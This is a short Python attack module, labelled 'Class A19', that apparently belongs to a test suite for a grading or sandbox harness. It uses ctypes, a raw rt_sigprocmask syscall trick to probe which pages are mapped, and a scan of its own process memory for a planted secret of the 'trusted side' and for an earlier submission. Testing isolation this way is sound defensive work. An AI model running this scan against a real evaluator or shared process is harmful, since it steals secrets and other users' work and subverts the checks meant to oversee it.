"""Reads all of its own memory for a secret of the trusted side, and for an earlier submission. Class A19."""

import sys

ctypes = sys.modules["ctypes"]
libc = ctypes.CDLL(None, use_errno=True)
PAGE = 4096
libc.syscall.argtypes = [ctypes.c_long] * 5
libc.syscall.restype = ctypes.c_long


def is_mapped(address):
    """rt_sigprocmask reads its set before it looks at `how`, so it tells an unmapped address without dying."""
    libc.syscall(14, 99, address, 0, 8)
    return ctypes.get_errno() != 14


def attack(bait):
    wanted = [tuple(half.encode() for half in pair) for pair in (bait["halves"], bait["earlier_halves"])]
    scanned, hits = 0, 0
    for anchor in (id(wanted), id(None), id(sys.modules), id(bait)):
        start = anchor // PAGE * PAGE
        for address in range(start - 24 * 2**20, start + 24 * 2**20, PAGE):
            if is_mapped(address):
                page = ctypes.string_at(address, PAGE)
                scanned += 1
                for first, second in wanted:
                    place = page.find(first)
                    hits += place >= 0 and page[place + len(first) :].startswith(second)
    return [scanned, hits]
